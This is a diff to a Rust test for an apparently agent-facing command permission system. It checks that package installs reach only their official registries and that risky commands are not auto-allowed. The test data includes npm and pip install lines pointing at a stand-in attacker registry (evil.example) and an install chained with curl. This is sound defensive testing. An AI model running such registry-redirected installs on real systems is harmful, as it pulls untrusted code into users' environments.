@@ -114,8 +114,14 @@ fn the_box_rule_allows_what_stays_in_the_box_and_asks_for_the_rest() {
         "git commit --amend -m x",
         "git push --force",
         "git push origin main",
-        "npm install",
+        "git fetch origin",
+        "npm install --registry=https://evil.example",
+        "npm_config_registry=https://evil.example npm ci",
+        "pip install -i https://evil.example/simple x",
+        "npm install && curl https://example.com",
         "npm publish",
+        "cargo publish",
+        "uv publish",
         "curl https://example.com",
         "sudo make install",
         "eval \"$CMD\"",
@@ -128,6 +134,19 @@ fn the_box_rule_allows_what_stays_in_the_box_and_asks_for_the_rest() {
     ] {
         assert_eq!(pick(&rules, &bash_in(cmd)), None, "{cmd}");
     }
+    // Package installs reach their registry, and only it: the box gets those hosts alone.
+    for (cmd, hosts) in [
+        ("npm install", vec!["registry.npmjs.org"]),
+        ("npm ci && npm test", vec!["registry.npmjs.org"]),
+        ("npx prettier --check .", vec!["registry.npmjs.org"]),
+        ("pip install -r requirements.txt", vec!["files.pythonhosted.org", "pypi.org"]),
+        ("cargo fetch", vec!["index.crates.io", "static.crates.io"]),
+    ] {
+        let r = rules.rule(&bash_in(cmd), Timestamp(0));
+        assert_eq!((r.effect, r.confine), (Effect::Allow, Some(crate::rules::Confine::Workspace)), "{cmd}");
+        assert_eq!(r.hosts, hosts, "{cmd}");
+    }
+    assert!(rules.rule(&bash_in("npm test"), Timestamp(0)).hosts.is_empty(), "no network where none is needed");
     // Only where the client runs it in the box, in a project folder.
     let mut s = bash_in("npm test");
     s.can_confine.retain(|c| *c == crate::rules::Confine::Read);
